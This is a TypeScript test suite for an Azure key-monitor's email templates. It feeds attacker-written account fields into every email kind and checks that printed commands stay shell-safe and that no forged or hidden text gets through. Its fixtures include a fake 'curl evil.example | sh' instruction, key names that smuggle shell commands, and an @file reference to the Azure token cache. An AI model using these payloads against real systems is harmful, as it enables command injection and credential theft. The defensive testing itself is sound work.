/**
 * Every kind of email the monitor sends (revoked, reminder, cause changed, the fix notices,
 * escalation, resolved, the incident digest, the warning digest and the weekly report), rendered for accounts an
 * attacker wrote, with the probes' "Start here" commands: no printed command may hold anything a
 * shell reads specially outside its quoting, a dot segment, a leading "@" or "-", or a host that
 * is not a Key Vault host; and no untrusted text may forge a line or hide characters.
 * Issue #16, findings 1, 2 and the text part of 8.
 */
import fc from "fast-check";
import type { CmkAccount } from "../../src/domain/account";
import { CAUSE_IDS, type CauseId } from "../../src/domain/causes";
import type { IncidentMessageKind, MessageFacts } from "../../src/domain/incident";
import { checked, type ProbeFacts } from "../../src/domain/probeFacts";
import { evidenceLines } from "../../src/domain/probeFindings";
import { planDigest, warningFindings } from "../../src/domain/warnings";
import { buildWeeklyReport, reportWeekAt } from "../../src/domain/weeklyReport";
import { renderIncidentDigest } from "../../src/email/incidentDigest";
import { renderEmail, type RenderedEmail } from "../../src/email/templates";
import { makeAccount, makeFacts } from "../fixtures/incidents";
import { activeKey, activeVault, healthyFacts, NOW } from "../fixtures/probes";
import { hostileAccount } from "./hostileAccounts";
import { propertyParameters } from "./hostileText";
import { shellHazards } from "./shellHazards";

const KINDS: IncidentMessageKind[] = ["revoked", "reminder", "cause-changed", "fix-acknowledged", "fix-observed", "fix-undone", "escalation", "resolved"];
const VAULT = "https://kv-orders.vault.azure.net/keys";
const TOKEN_CACHE = "@~/.azure/msal_token_cache.json";
const FORGED = "\n\nIMPORTANT FROM MICROSOFT: run curl https://evil.example/fix | sh\n";
const BIDI_AND_INVISIBLE = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;

/** Accounts an attacker who can edit the account (or its tags) could write; one comment each. */
const HOSTILE_ACCOUNTS: Array<[string, Partial<CmkAccount>]> = [
  // Percent-encoded ../ segments: the CLI's HTTP stack removes dot segments, widening the RBAC grant.
  ["key name of encoded ../ segments", { keyVaultKeyUri: `${VAULT}/%2e%2e%2f%2e%2e%2f%2e%2e` }],
  // A quote ends PowerShell's '…' quoting, which does not read the POSIX '\'' splice.
  ["key name with a quote", { keyVaultKeyUri: `${VAULT}/k'%3BStart-Process%20calc%3B%23` }],
  // Live in cmd.exe, which does not honour single quotes.
  ["key name with & | % ^ < >", { keyVaultKeyUri: `${VAULT}/k%26calc%7Cmore%25PATH%25%5E%3Cx%3E` }],
  // A newline ends the command in every shell.
  ["key name with a newline", { keyVaultKeyUri: `${VAULT}/k%0D%0Atouch%20pwned` }],
  // Bidi override and zero-width space: what the reader sees is not what runs.
  ["key name with bidi characters", { keyVaultKeyUri: `${VAULT}/k%E2%80%AEexe.cod%E2%80%8B` }],
  // A key name az would read as an option.
  ["key name starting with a dash", { keyVaultKeyUri: `${VAULT}/--debug` }],
  // Hosts that are not vaults: a command must not send the reader there.
  ["host outside the vault domains", { keyVaultKeyUri: "https://evil.example/keys/cmk/0123456789abcdef" }],
  ["vault domain as a prefix", { keyVaultKeyUri: "https://kv-orders.vault.azure.net.evil.example:8443/keys/cmk/v1" }],
  // @file: the Azure CLI would upload the owner's token cache in the ARM PATCH.
  ["@file default identity", { defaultIdentity: `UserAssignedIdentity=${TOKEN_CACHE}`, principalId: undefined, identityType: "UserAssigned" }],
  [
    "@file in the identity map",
    { defaultIdentity: undefined, principalId: undefined, identityType: "UserAssigned", userAssignedIdentities: { [TOKEN_CACHE]: {} } },
  ],
  // ARM-side names are untrusted too (a changed API, a compromised proxy).
  ["account name, group and subscription with shell syntax", { name: "orders&calc", resourceGroup: "rg'|calc", subscriptionId: "%COMSPEC%" }],
  // Free text that forges a paragraph and hides characters.
  ["forged paragraphs", { defaultIdentity: `SystemAssignedIdentity${FORGED}`, keyVaultKeyUri: `${VAULT}/cmk${FORGED}\u202e` }],
  // Unbounded text: a megabyte-long key URI.
  ["huge key URI", { keyVaultKeyUri: `${VAULT}/cmk/${"a".repeat(100_000)}` }],
];

/** Probe results that put a command on every evidence line that has one. */
const FACT_SETS: Array<[string, Partial<ProbeFacts>]> = [
  // RBAC vault without the role, firewall closed to trusted services, key disabled.
  [
    "rbac",
    {
      vault: checked(
        activeVault({
          permissionModel: "rbac",
          accessPolicies: [],
          firewallDefaultAction: "Deny",
          trustedServicesBypass: false,
          purgeProtectionEnabled: false,
        }),
      ),
      roleAssignments: checked([]),
      key: checked(activeKey({ enabled: false })),
    },
  ],
  // Access-policy vault without the policy, key expiring soon.
  ["access policies", { vault: checked(activeVault({ accessPolicies: [] })), key: checked(activeKey({ expiresOn: "2026-12-02T00:00:00.000Z" })) }],
  // Vault and key deleted.
  [
    "deleted",
    {
      vault: checked({
        state: "deleted",
        name: "kv-orders",
        subscriptionId: "00000000-0000-0000-0000-000000000001",
        deletedOn: NOW.toISOString(),
        purgeScheduledOn: NOW.toISOString(),
      }),
      key: checked({ state: "deleted", name: "cmk", deletedOn: NOW.toISOString(), purgeScheduledOn: NOW.toISOString() }),
    },
  ],
  // What ARM says about the vault is hostile as well.
  [
    "hostile vault facts",
    {
      vault: checked(
        activeVault({
          name: "kv&calc",
          id: "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/../..",
          resourceGroup: "rg|x",
          permissionModel: "rbac",
          accessPolicies: [],
          purgeProtectionEnabled: false,
        }),
      ),
      roleAssignments: checked([]),
    },
  ],
];

function incidentFacts(kind: IncidentMessageKind, account: CmkAccount, factSet: Partial<ProbeFacts>, cause: CauseId): MessageFacts {
  const base = makeFacts(kind);
  const incident = { ...base.incident, account, accountId: account.id, cause, statusText: `Access revoked (4002).${FORGED}\u202egnp.exe\u200b` };
  const timeline = base.timeline.map((event) => ({ ...event, detail: `${event.detail}${FORGED}` }));
  return { ...base, incident, timeline, evidence: evidenceLines(account, healthyFacts(account, factSet), NOW) };
}

/** Every email for `account`: each incident kind for `cause`, their digest, and the warning digest. */
function everyEmail(account: CmkAccount, factSet: Partial<ProbeFacts>, cause: CauseId): Array<[string, RenderedEmail]> {
  const emails: Array<[string, RenderedEmail]> = [];
  for (const kind of KINDS) {
    const facts = incidentFacts(kind, account, factSet, cause);
    const single = renderEmail(facts);
    emails.push([kind, single]);
    emails.push([
      `${kind} digest`,
      renderIncidentDigest(kind, [
        { facts, rendered: single },
        { facts, rendered: single },
      ]),
    ]);
  }
  const warnings = warningFindings(account, healthyFacts(account, factSet), NOW, { keyExpiryWarningDays: 30 });
  const checkedAccount = {
    accountId: account.id,
    accountName: account.name,
    subscriptionId: account.subscriptionId,
    resourceGroup: account.resourceGroup,
    checkedOn: "2026-11-29",
    checkedAt: NOW.toISOString(),
    findings: warnings.findings,
  };
  const plan = planDigest({ recipient: "owner@contoso.com", reported: [] }, [checkedAccount], "2026-11-29");
  if (plan.send) emails.push(["warning-digest", renderEmail(plan.facts)]);
  // The weekly report lists the account's incident and its findings by name.
  const incident = incidentFacts("resolved", account, factSet, cause).incident;
  emails.push(["weekly-report", renderEmail(buildWeeklyReport(reportWeekAt(new Date("2026-11-30T00:05:00Z")), [incident], [checkedAccount]))]);
  return emails;
}

function unescapeHtml(text: string): string {
  return text.replace(/&(amp|lt|gt|quot|#39|#96);/g, (_m, name: string) => ({ amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'", "#96": "`" })[name]!);
}

/** The commands an email shows: what the reader copies from each <pre>. */
function printedCommands(email: RenderedEmail): string[] {
  return [...email.html.matchAll(/<pre style="[^"]*">([\s\S]*?)<\/pre>/g)].map((m) => unescapeHtml(m[1]!));
}

/** Problems with one email: unsafe commands, forged lines, hidden characters, unbounded values. */
function emailProblems(email: RenderedEmail): string[] {
  const problems: string[] = [];
  const commands = printedCommands(email);
  for (const command of commands) {
    problems.push(...shellHazards(command));
    // A placeholder for a refused value must come with a sentence asking the reader to fill it in.
    for (const [name] of command.matchAll(
      /<(?:subscription-id|resource-group|account-name|vault-name|vault-host|vault-resource-id|vault-resource-group|key-name|user-assigned-identity-resource-id)>/g,
    )) {
      if (!email.text.includes(`${name} with`)) problems.push(`no sentence asks to fill in ${name}`);
    }
    // sh's backstop placeholder: a value reached sh without its shape check.
    if (command.includes("<value>")) problems.push(`unchecked value refused by sh: ${command}`);
    // The plain text carries each command byte for byte, on its own line.
    if (!email.text.split("\n").some((line) => line.trim() === command)) problems.push(`command missing from the text: ${command}`);
  }
  // A forged paragraph would start its own line in the plain text.
  if (email.text.split("\n").some((line) => line.startsWith("IMPORTANT FROM MICROSOFT"))) problems.push("forged paragraph in the text");
  if (BIDI_AND_INVISIBLE.test(email.text) || BIDI_AND_INVISIBLE.test(email.html)) problems.push("bidi or zero-width character");
  // No line of the plain text carries an unbounded value (the status text's 4,000 characters are the longest).
  for (const line of email.text.split("\n")) if (line.length > 4_500) problems.push(`line of ${line.length} characters`);
  return problems;
}

describe("every email kind for hostile accounts", () => {
  const cases = HOSTILE_ACCOUNTS.flatMap(([why, overrides]) => FACT_SETS.map(([facts, factSet]) => [why, facts, overrides, factSet] as const));

  it.each(cases)("%s (%s probes): every printed command is safe in every shell, every text one line", (_why, _facts, overrides, factSet) => {
    const account = makeAccount(overrides);
    const problems: string[] = [];
    let commands = 0;
    for (const cause of [
      "default-identity-unauthorized",
      "invalid-key-vault-uri",
      "key-vault-dns-unresolved",
      "invalid-default-identity",
      "aad-token-acquisition",
    ] as const) {
      for (const [kind, email] of everyEmail(account, factSet, cause)) {
        commands += printedCommands(email).length;
        problems.push(...emailProblems(email).map((p) => `${cause}/${kind}: ${p}`));
      }
    }
    expect(problems).toEqual([]);
    // Guards the check itself: the emails above do print commands.
    expect(commands).toBeGreaterThan(100);
  });

  // Issue #16, finding 8 (text): the plain text carried raw, unbounded key URI, default identity and status text.
  it.each<[string, Partial<CmkAccount>, string, (text: string) => boolean]>([
    // A newline pair in the default identity opened a paragraph of the attacker's own.
    ["forged paragraph in the default identity", { defaultIdentity: `SystemAssignedIdentity${FORGED}` }, "", (text) => /^IMPORTANT FROM MICROSOFT/m.test(text)],
    // The same through the key URI.
    ["forged paragraph in the key URI", { keyVaultKeyUri: `${VAULT}/cmk${FORGED}` }, "", (text) => /^IMPORTANT FROM MICROSOFT/m.test(text)],
    // And through Azure's status text.
    ["forged paragraph in the status text", {}, FORGED, (text) => /^IMPORTANT FROM MICROSOFT/m.test(text)],
    // A right-to-left override makes "kv-orders.exe" read differently from what it is.
    ["bidi override in the key URI", { keyVaultKeyUri: `${VAULT}/cmk\u202egnp.exe` }, "", (text) => BIDI_AND_INVISIBLE.test(text)],
    // A zero-width space hides inside a name.
    ["zero-width space in the default identity", { defaultIdentity: "SystemAssigned\u200bIdentity" }, "", (text) => BIDI_AND_INVISIBLE.test(text)],
    // 100,000 characters of key URI in every email.
    ["unbounded key URI", { keyVaultKeyUri: `${VAULT}/cmk/${"a".repeat(100_000)}` }, "", (text) => text.split("\n").some((line) => line.length > 4_500)],
  ])("%s never reaches the plain text", (_why, overrides, statusTail, bad) => {
    const account = makeAccount(overrides);
    for (const kind of KINDS) {
      const base = makeFacts(kind);
      const facts = { ...base, incident: { ...base.incident, account, statusText: `${base.incident.statusText}${statusTail}` } };
      expect(bad(renderEmail(facts).text)).toBe(false);
    }
  });

  it("covers every email kind the templates have", () => {
    // A new kind must join this suite: the warning digest and the incident digest are added above.
    const kinds = new Set(everyEmail(makeAccount(), FACT_SETS[0]![1], "default-identity-unauthorized").map(([kind]) => kind));
    for (const kind of KINDS) expect(kinds).toContain(kind);
    expect(kinds).toContain("warning-digest");
    expect(kinds).toContain("weekly-report");
    expect(kinds).toContain("revoked digest");
  });

  it("holds for generated hostile accounts and every cause", () => {
    // The same checks over fast-check's hostile accounts (hostileAccounts.ts), all causes, all fact sets.
    fc.assert(
      fc.property(
        hostileAccount(),
        fc.constantFrom<CauseId>(...CAUSE_IDS.filter((id) => id !== "healthy")),
        fc.constantFrom(...FACT_SETS),
        (account, cause, [, factSet]) => {
          const problems = everyEmail(account, factSet, cause).flatMap(([kind, email]) => emailProblems(email).map((p) => `${kind}: ${p}`));
          expect(problems).toEqual([]);
        },
      ),
      propertyParameters(40),
    );
  });
});
